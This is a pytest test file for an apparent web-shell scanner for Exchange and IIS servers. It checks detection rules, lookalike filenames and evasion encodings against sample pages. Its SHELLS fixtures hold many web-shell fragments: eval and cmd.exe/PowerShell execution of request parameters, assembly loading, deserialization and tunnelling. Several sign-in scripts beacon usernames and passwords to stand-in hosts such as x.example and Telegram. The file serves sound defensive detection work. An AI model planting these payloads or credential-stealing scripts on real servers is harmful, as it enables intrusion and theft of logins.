"""web-page: what a page does with a request, whether it is shipped, whom it imitates; honest pages pass."""

import io

import pytest

from tocsin.formats import Reading, recognise
from tocsin.formats.syntax.log_rows import LogRecord
from tocsin.formats.syntax.webshell_page import mailbox_records, page_records
from tocsin.formats.syntax.webshell_scan import scanned, strong
from tocsin.knowledge.shipped import lookalike, page
from tocsin.knowledge.webshells import sources
from tocsin.model.locator import Locator

OWA = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\"
CS = '<%@ Page Language="C#" %>'
EVAL = '<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>'

# Inert: shapes of such pages, none complete.
SHELLS = {
    "sign_in_of_exchange_sends_on": [
        ('<%@ Page language="c#" Inherits="Microsoft.Exchange.HttpProxy.Logon" %><form action="/owa/auth.owa" name="logonForm">'
        '<script>var f=document.logonForm;f.addEventListener("submit",function(){var d=btoa(f.username.value+"|"+'
        'f.password.value);navigator.sendBeacon("https://stat.example/i",d);});</script>'),
        ("function clkLgn(){var p=gbid('password').value;var x=new XMLHttpRequest();x.open('POST','/owa/auth/x.aspx');x.send(p);"
        "document.logonForm.submit();}"),
        "function clkLgn(){new Image().src='//x.example/?'+gbid('username').value+gbid('password').value;}",
        "var f=new FormData(document.logonForm);fetch('https://api.telegram.org/bot1/send?text='+f.get('password'));",
    ],
    "eval_of_request": [
        '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>',
        '<%eval request("x")%>',
        '<% Execute(Request.Form("x")) %>',
        ('<%@ page language=jscript %><% eval ( System.Text.Encoding.UTF8.GetString( '
        'System.Convert.FromBase64String( Request.Form[ "x" ] ) ) ) %>'),
        EVAL,
    ],
    "eval_in_a_server_script": [
        '<%@ Page Language="JScript" %><% var a = Request["x"]; var b = a; eval(b); %>',
        "<script runat='server' language='JScript'>function Page_Load(){ev/*x*/al(q);}</script>",
        '<%@ Page Language="JScript" %><% \\u0065\\u0076al(q) %>',
        "<script language='JS' + 'x'></script><%@ Page Language='JScript' %><% this['eval'](q) %>",
    ],
    "command_of_request": [
        CS + '<% var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe";'
        ' p.StartInfo.Arguments = "/c " + Request["c"]; p.StartInfo.RedirectStandardOutput = true; %>',
        ('<%@ WebHandler Language="C#" Class="H" %> public class H : IHttpHandler { public void'
        ' ProcessRequest(HttpContext c) { var i = new ProcessStartInfo("powershell", c.Request["x"]);'
        " Process.Start(i); } }"),
        CS + '<input id="c" runat="server"/><% t = Type.GetTypeFromProgID("WScript.Shell"); '
        't.InvokeMember("Exec", f, null, o, new object[]{"cmd /c " + c.Value}); %>',
        '<% Set s = CreateObject("WScript.Shell") : Set e = s.Exec("cmd /c " & Request("c")) %>',
        ('<%@ Page Language="VB" %><asp:TextBox id="t" runat="server"/><script runat="server">'
        'Dim i As New ProcessStartInfo("c" + "md.exe") : i.RedirectStandardOutput = True</script>'),
    ],
    "assembly_of_request": [
        CS + '<% var a = System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["p"]));'
        ' a.CreateInstance("X"); %>',
        CS + '<% if (Session["p"] == null) Session["p"] = (byte[])typeof(System.Reflection.Assembly)'
        '.GetMethod("Load", new Type[]{typeof(byte[])}).Invoke(null, new object[]{'
        "Request.BinaryRead(10)}); %>",
    ],
    "encrypted_channel": [
        CS + "<% byte[] c = Request.BinaryRead(Request.ContentLength); Assembly.Load(new RijndaelManaged()"
        '.CreateDecryptor(k, k).TransformFinalBlock(c, 0, c.Length)).CreateInstance("U").Equals(this); %>',
    ],
    "compiled_from_request": [
        CS + '<% var r = new CSharpCodeProvider().CompileAssemblyFromSource(o, Dec(Request["s"]));'
        ' r.CompiledAssembly.CreateInstance("S"); %>',
    ],
    "deserialized_request": [
        CS + '<% new System.Web.UI.LosFormatter().Deserialize(Request.Form["v"]); %>',
        CS + "<% var f = new BinaryFormatter(); f.Deserialize(new MemoryStream(Convert.FromBase64String("
        'Request["v"]))); %>',
    ],
    "serialized_gadget": [
        CS + '<% var x = "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0"; %>',
    ],
    "file_written_where_request_says": [
        CS + '<% System.IO.File.WriteAllText(Server.MapPath(Request["f"]), Request["d"]); %>',
        CS + '<% Request.Files[0].SaveAs(Request.Form["to"]); %>',
        CS + '<% File.WriteAllBytes(x, Convert.FromBase64String(Request["d"])); %>',
    ],
    "tunnel": [
        CS + "<% var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);"
        ' s.Connect(Request.QueryString["ip"], 3389); Session["s"] = s;'
        " Response.BinaryWrite(Request.BinaryRead(9)); %>",
    ],
    "powershell_of_request": [
        CS + '<%@ Import Namespace="System.Management.Automation" %><%'
        ' RunspaceFactory.CreateRunspace().CreatePipeline().Commands.AddScript(Request["c"]); %>',
    ],
    "process_of_request": [CS + '<% System.Diagnostics.Process.Start(Request["p"], Request["a"]); %>'],
    "reflection_of_request": [CS + '<% t.GetMethod(Request["m"]).Invoke(o, a); %>'],
    "native_code": [
        CS + '<script runat="server">[DllImport("kernel32")] static extern IntPtr VirtualAlloc(int a);'
        " static extern IntPtr CreateThread(int a);</script>"
    ],
    "hidden_page": [
        CS + "<% class P : VirtualPathProvider {} HostingEnvironment.RegisterVirtualPathProvider(new P("
        "Convert.FromBase64String(x))); %>"
    ],
    "passwords_kept": [
        CS + '<% File.AppendAllText("c:\\\\x.txt", Request.Form["username"] + Request.Form["password"]); %>'
    ],
    "directory_settings_with_code": [
        ("Name : OAB (Default Web Site)\r\nPollInterval : 480\r\nOfflineAddressBooks : \\Default\r\n"
        f"ExternalUrl : http://f/{EVAL}\r\n")
    ],
    "configuration_runs_code": [
        ('<configuration><system.webServer><handlers><add name="w" path="*.jpg" verb="*" '
        'type="System.Web.UI.PageHandlerFactory"/></handlers></system.webServer></configuration>')
    ],
    "php_of_request": ["<?php @eval($_POST['x']); ?>", "<?php $_GET['f']($_GET['x']);"],
    "jsp_of_request": ['<% Runtime.getRuntime().exec(request.getParameter("c")); %>'],
}  # fmt: skip

HONEST = {
    "the script of Exchange's sign-in page": "function clkLgn(){var p=gbid('password');if(p.value.length>16){p.value="
    "p.value.substr(0,16);}document.logonForm.submit();} function gbid(s){return document.getElementById(s);}",
    "a sign-in page": '<%@ Page Language="C#" AutoEventWireup="true" Inherits="Contoso.Logon" %>\n'
    "<html><head><script>function clk(){ if (document.getElementById('password').value == '') "
    'return false; }</script></head><body><% if (Request.QueryString["reason"] == "2") { %>'
    '<p>wrong password</p><% } %><form runat="server"><asp:TextBox ID="username" runat="server"/>'
    '<input type="password" name="password" id="password"/></form></body></html>',
    "a redirect": CS + '<script runat="server">void Page_Load(object s, EventArgs e){ var to = '
    'Request.QueryString["url"]; if (IsLocal(to)) Response.Redirect(to); }</script>',
    "a report made by a program": CS + '<script runat="server">void Run(){ var p = new ProcessStartInfo('
    'Server.MapPath("~/bin/report.exe")); p.Arguments = "--out " + Path.GetTempFileName();'
    " Process.Start(p).WaitForExit(); }\nvoid Page_Load(){ var id = int.Parse("
    'Request.QueryString["id"]); }</script>',
    "an upload": CS + '<asp:FileUpload ID="f" runat="server"/><script runat="server">void Up(){ '
    'f.SaveAs(Path.Combine(Server.MapPath("~/uploads"), Guid.NewGuid() + ".bin")); }</script>',
    "a download": CS + '<script runat="server">void Page_Load(){ var row = Find(Request["id"]);'
    " Response.ContentType = row.Type; Response.BinaryWrite(row.Data); }</script>",
    "a picture from a database": '<%@ WebHandler Language="C#" Class="Img" %>\npublic class Img : '
    "IHttpHandler { public void ProcessRequest(HttpContext context) { var b = Load(context.Request"
    '["id"]); context.Response.OutputStream.Write(b, 0, b.Length); } }',
    "plug-ins": CS + '<script runat="server">void Page_Load(){ var a = Assembly.Load("Contoso.Plugins");'
    ' var t = a.CreateInstance("Contoso.Plugins." + Known(Request["p"])); }</script>',
    "data binding and script": '<%@ Page Language="VB" %><script type="text/javascript">var o = eval("(" + '
    "request.responseText + \")\"); $.get('/x');</script><%# Eval(\"Name\") %>",
    "a cache of decoded state": CS + '<script runat="server">void Page_Load(){ var t = '
    'Convert.FromBase64String(Request.Cookies["t"].Value); var p = MachineKey.Unprotect(t, "x"); }</script>',
    "encryption of a field": CS + '<script runat="server">string Enc(string s){ using (var a = Aes.Create())'
    " { var e = a.CreateEncryptor(); return Convert.ToBase64String(e.TransformFinalBlock(B(s), 0, 9)); } }"
    ' void Page_Load(){ L.Text = Enc(Request["n"]); }</script>',
    "a log of requests": CS + '<script runat="server">void Page_Load(){ File.AppendAllText(Server.MapPath('
    '"~/App_Data/hits.log"), Request.UserAgent + Environment.NewLine); }</script>',
    "a mail form in classic ASP": '<%@ Language=VBScript %><% Set m = Server.CreateObject("CDO.Message")\n'
    'm.To = "info@contoso.example"\nm.TextBody = Request.Form("text")\nm.Send %>',
    "settings in a configuration": '<?xml version="1.0"?><configuration><system.webServer><handlers><add '
    'name="svc" path="*.svc" verb="*" type="System.ServiceModel.Activation.HttpHandler"/><remove '
    'name="WebDAV"/></handlers></system.webServer></configuration>',
    "settings of a virtual directory": "Name : OAB (Default Web Site)\r\nPollInterval : 480\r\n"
    "OfflineAddressBooks : \\Default\r\nExternalUrl : https://mail.contoso.example/OAB\r\n",
    "PHP": "<?php $id = intval($_GET['id']); echo htmlspecialchars($_GET['q']); include 'head.php'; ?>",
    "JSP": '<%@ page import="java.util.*" %><% String q = request.getParameter("q"); out.print(esc(q)); %>',
}  # fmt: skip


@pytest.mark.parametrize("rule", SHELLS)
def test_pages_that_run_what_a_request_says(rule):
    for text in SHELLS[rule]:
        assert rule in scanned(text.encode()), text
        assert strong(scanned(text.encode())), text


@pytest.mark.parametrize("name", HONEST)
def test_honest_pages_pass(name):
    assert scanned(HONEST[name].encode()) == ()


@pytest.mark.parametrize("rule", ["eval_of_request", "command_of_request", "encrypted_channel"])
@pytest.mark.parametrize(
    "disguise",
    [
        lambda text: text.encode("utf-16"),
        lambda text: text.encode("utf-16-le"),
        lambda text: b"\xef\xbb\xbf" + text.encode(),
        lambda text: text.replace("Request", "R\\u0065quest").encode(),
        lambda text: text.replace("Request", "Re/**/quest").encode(),
        lambda text: text.replace("(", " (\r\n\t").encode(),
        lambda text: text.upper().encode() if "JSCRIPT" in text.upper() else text.encode(),
        lambda text: text.encode() + b" " * 200_000,
        lambda text: b"GIF89a" + bytes(100) + text.encode(),
    ],
)
def test_disguises(rule, disguise):
    for text in SHELLS[rule]:
        assert rule in scanned(disguise(text)), text


def test_every_rule_of_ours_is_tried():
    names = {
        line.split()[1]
        for text in sources()
        for line in text.splitlines()
        if line.startswith("rule ")
    }
    tried = {each for texts in SHELLS.values() for text in texts for each in scanned(text.encode())}
    more = {
        "eval_unsafe": '<%@ Page Language="JScript"%><% eval(x, "unsafe") %>',
        "assembly_in_the_page": CS + '<% Assembly.Load(Convert.FromBase64String("' + "A" * 2100 + '")); %>',
        "fetched_where_request_says": CS + '<% new WebClient().DownloadFile(Request["u"], "x"); %>',
        "console": CS + '<% Process.Start(x); Registry.LocalMachine; File.Delete(a); new TcpClient(b, 1);'
        ' Directory.GetFiles(c); Request["x"] %>',
        "uploads_beside_itself": CS
        + '<% f.PostedFile.SaveAs(Server.MapPath(".") + "/" + f.FileName); %>',
        "includes_another_kind": '<%@ Language=VBScript %><!--#include file="a.jpg"-->',
        "changed_times": CS + '<% File.SetLastWriteTime(Request["f"], d); %>',
        "transformed_with_script": CS + '<% new XslCompiledTransform().Load(Request["x"], '
        "XsltSettings.TrustedXslt, r); %>",
        "machine_keys_shown": CS + '<% var s = typeof(Page).Assembly.GetType("System.Web.Configuration.'
        'MachineKeySection").GetMethod("GetApplicationConfig"); Response.Write(s.ValidationKey); %>',
        "passwords_sent": "<script>var p = gbid('password').value; fetch('//x.example/?' + p)</script>",
    }  # fmt: skip
    for rule, text in more.items():
        assert rule in scanned(text.encode()), rule
    pst, request = (
        b"!BDN" + bytes(600) + EVAL.encode(),
        bytes.fromhex("308203e80603550403") + EVAL.encode(),
    )
    tried |= {*more, *scanned(pst), *scanned(request)}
    assert names == tried


def records(data: bytes, source: str):
    form = recognise(data[:8192])
    assert form is not None
    assert form.name == "web-page"
    (found,) = form.log.named(io.BytesIO(data), source)
    assert isinstance(found, LogRecord)
    return form.log.event(found.text)


def test_a_page_as_a_row():
    event = records(
        EVAL.encode(), f"case.zip!{OWA[3:]}RedirSuiteServerProxy.aspx".replace("\\", "/")
    )
    fields = event.fields
    assert event.surface == "files"
    assert fields["name"] == "RedirSuiteServerProxy.aspx"
    assert fields["folder"].endswith("HttpProxy\\owa\\auth")
    assert fields["extension"] == "aspx"
    assert fields["shipped"] == "no"
    assert fields["lookalike"] == "RedirSuiteServiceProxy.aspx"
    assert fields["severity"] == "strong"
    assert "eval_of_request" in fields["yara"].split("\n")
    assert fields["size"] == str(len(EVAL))
    assert len(fields["hash"]) == 64
    assert event.raw == EVAL
    honest = records(HONEST["a sign-in page"].encode(), OWA + "logon.aspx").fields
    assert honest["shipped"] == "yes"
    assert not {"yara", "severity", "lookalike"} & honest.keys()


@pytest.mark.parametrize(
    ("path", "shipped", "like"),
    [
        (OWA + "logon.aspx", "yes", ""),
        (OWA + "LOGON.ASPX", "yes", ""),
        (OWA + "RedirSuiteServerProxy.aspx", "no", "RedirSuiteServiceProxy.aspx"),
        (OWA + "OutlookEN.aspx", "no", "OutlookCN.aspx"),
        (OWA + "errorEE.aspx", "no", "errorFE.aspx"),
        (OWA + "x.aspx", "no", ""),
        (OWA + "15.1.2308\\help.aspx", "no", ""),
        (OWA + "Current\\themes\\resources\\a.ashx", "no", ""),
        (OWA + "Current\\themes\\resources\\logon.css", "unknown", ""),
        ("D:/Exchange/FrontEnd/HttpProxy/ecp/auth/TimeoutLogoff.aspx", "yes", ""),
        ("D:/Exchange/FrontEnd/HttpProxy/ecp/auth/TimeoutLogout.aspx", "yes", ""),
        ("D:/Exchange/FrontEnd/HttpProxy/ecp/auth/TimeoutLogon.aspx", "no", "TimeoutLogoff.aspx"),
        ("web.zip!owa/auth/RedirSuiteServerProxy.aspx", "no", "RedirSuiteServiceProxy.aspx"),
        ("C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0_30319\\s.aspx", "no", ""),
        ("C:\\inetpub\\wwwroot\\shop\\login.aspx", "unknown", ""),
        ("E:\\V15\\ClientAccess\\ecp\\RulesEditor\\InboxRules.aspx", "unknown", ""),
    ],
)
def test_shipped_and_lookalike(path, shipped, like):
    assert (page(path), lookalike(path)) == (shipped, like)


def test_a_mailbox_that_is_a_page():
    plain = b"!BDN" + bytes(20) + b"<script>hello</script>" + bytes(5000)
    shell = b"!BDN" + bytes(6) + b"SM" + bytes(9000) + EVAL.encode()
    assert list(mailbox_records(io.BytesIO(plain), "mailbox.pst")) == []
    assert len(list(mailbox_records(io.BytesIO(plain), "owa/auth/a.aspx"))) == 1
    (found,) = mailbox_records(io.BytesIO(shell), "mailbox.pst")
    assert b"mailbox_export_with_code" in found.text


def test_a_page_that_was_compiled_was_asked_for():
    note = (
        '<?xml version="1.0" encoding="utf-8"?>\r\n<preserve resultType="3" virtualPath="/owa/auth/oh.aspx" '
        'hash="1" filehash="2" flags="110000" assembly="App_Web_x1" type="ASP.auth_oh_aspx"></preserve>'
    )
    fields = records(note.encode("utf-8-sig"), "t.zip!owa/8e05/oh.aspx.cdcab7d2.compiled").fields
    assert fields["kind"] == "compiled"
    assert fields["virtualPath"] == "/owa/auth/oh.aspx"
    assert fields["assembly"] == "App_Web_x1"
    assert (fields["name"], fields["shipped"]) == ("oh.aspx", "no")


@pytest.mark.parametrize(
    "text",
    [
        'Notes of the incident\n\nThe shell was:\n\n    <%@ Page Language="Jscript"%>\n',
        "<html><body>plain</body></html>",
        "2021-03-05 03:06:27 10.0.0.1 GET /owa/auth/x.aspx a=<%25eval 443 - 192.0.2.1 - 200 0 0 1\n",
        '{"a": "<%@ Page %>"}',
        'rule x { strings: $a = "<%@ Page" condition: $a }',
        "",
    ],
)
def test_what_is_no_page(text):
    form = recognise(text.encode())
    assert form is None or form.name != "web-page"


def test_hostile_pages_take_bounded_time():
    for text in (
        "<%@ Page %>" + "eval(" * 300_000,
        "/*" * 500_000 + "<%",
        "'+'" * 400_000,
        "\\u00" * 300_000,
    ):
        scanned(text.encode())
    form = recognise(EVAL.encode())
    (look,) = form.read(io.BytesIO(EVAL.encode()), Locator(source="x"), Reading())
    assert look.body.records == 1


def test_a_page_whose_code_breaks_off_is_judged_and_told():
    whole = SHELLS["eval_of_request"][1]
    torn = (CS + whole)[:-1].encode()
    first, second = page_records(io.BytesIO(torn), "x.aspx")
    assert "its code has no end" in str(first.why)
    assert b"eval_of_request" in second.text
    (only,) = page_records(io.BytesIO((CS + whole).encode()), "x.aspx")
    assert b"eval_of_request" in only.text
